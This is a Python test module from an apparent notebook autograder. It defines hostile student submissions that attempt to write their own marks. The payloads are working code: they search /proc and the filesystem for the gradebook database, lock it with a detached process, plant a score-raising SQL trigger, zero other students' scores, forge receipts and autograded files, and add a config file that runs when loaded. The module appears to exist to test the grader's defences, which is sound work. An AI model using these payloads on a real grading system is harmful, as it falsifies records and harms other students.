"""Kind 22: marks that the submission writes itself. Resubmissions are in tests/test_hostile.py."""

from digitrec.rehearsal.hostile import PROCESS, attack, exercise, honest, text, with_code

SQL = '''
import glob, os, sqlite3
def books():
    found = ["@COURSE@/gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/proc/*/cwd/gradebook.db")]
    return [path for path in found if os.path.exists(path)]
'''


@attack(kind=22, marks={})
def gradebook_locked(exercise):
    """The gradebook is locked for ten minutes by a process of its own."""
    return with_code(exercise, SQL + f'''
import subprocess, sys
for path in books():
    program = ("import sqlite3, time, sys; db = sqlite3.connect(sys.argv[1]); "
               "db.execute('begin exclusive'); time.sleep(600)")
    subprocess.Popen([sys.executable, "-c", program, path, "{PROCESS}"], start_new_session=True)
''')


@attack(kind=22, marks={})
def trigger_in_the_gradebook(exercise):
    """A trigger raises every mark that is written."""
    return with_code(exercise, SQL + '''
for path in books():
    with sqlite3.connect(path, timeout=2) as db:
        db.execute("create trigger generous after update on grade begin "
                   "update grade set manual_score = 3 where id = new.id; end")
''')


@attack(kind=22, marks={})
def extra_credit(exercise):
    """Extra credit for oneself, none for others."""
    return with_code(exercise, SQL + '''
for path in books():
    with sqlite3.connect(path, timeout=2) as db:
        db.execute("update grade set extra_credit = 50")
        db.execute("update grade set auto_score = 0, manual_score = 0")
''')


@attack(kind=22, marks={})
def a_mark_written_later(exercise):
    """A process waits for two minutes and then writes its mark."""
    return with_code(exercise, f'''
import subprocess, sys
program = """
import glob, sqlite3, time
for _ in range(120):
    time.sleep(1)
    try:
        with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=1) as db:
            db.execute("update grade set auto_score = 3")
    except sqlite3.Error:
        pass
"""
subprocess.Popen([sys.executable, "-c", program, "{PROCESS}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''')


@attack(kind=22, marks={})
def own_receipt_and_autograded(exercise):
    """Receipts and an autograded notebook are written to where they are looked for."""
    return with_code(exercise, '''
import json, os
said = json.dumps({"format": 1, "version": 1, "marks": {"flatten-graded": 2.0}, "verdict": {"flatten-graded": 2.0}})
for where in ("@COURSE@/receipts", "@COURSE@/autograded", "receipts", "autograded", "@COURSE@/feedback"):
    for student in ("k22-own-receipt-and-autograded", "aaa-honest"):
        folder = f"{where}/{student}/02_preparing"
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ("preparing.json", "preparing.ipynb", "receipt.json", "preparing.html"):
                open(f"{folder}/{name}", "w").write(said)
        except OSError:
            pass
''')


@attack(kind=22, marks={}, files=True)
def receipt_handed_in(folder, notebook):
    """Receipts, a gradebook and a checked.json with full marks are handed in beside a blank notebook."""
    (folder / "preparing.ipynb").write_text(text(exercise("preparing")))
    said = '{"format": 1, "marks": {"flatten-graded": 2.0}, "checked": {"preparing.flatten": 2.0}}'
    for name in ("receipt.json", "preparing.json", "preparing.receipt.json", "marks.json"):
        (folder / name).write_text(said)
    (folder / ".digitrec").mkdir()
    (folder / ".digitrec" / "checked.json").write_text(said)
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0" + bytes(5000))
    (folder / "nbgrader_config.py").write_text("raise SystemExit('the configuration of a submission was run')")


@attack(kind=22, marks={"flatten": 2})
def comments_and_scores_in_metadata(exercise):
    """The cells' metadata hold scores, comments, checksums and a grade."""
    for cell in honest(exercise, "flatten").cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.update(score=100, auto_score=100, manual_score=100, extra_credit=100, max_score=1,
                                          comment="well done", checksum="0" * 32)
            cell.metadata["digitrec"] = {"marks": 2.0, "report": {"marks": 2.0}}
    return exercise
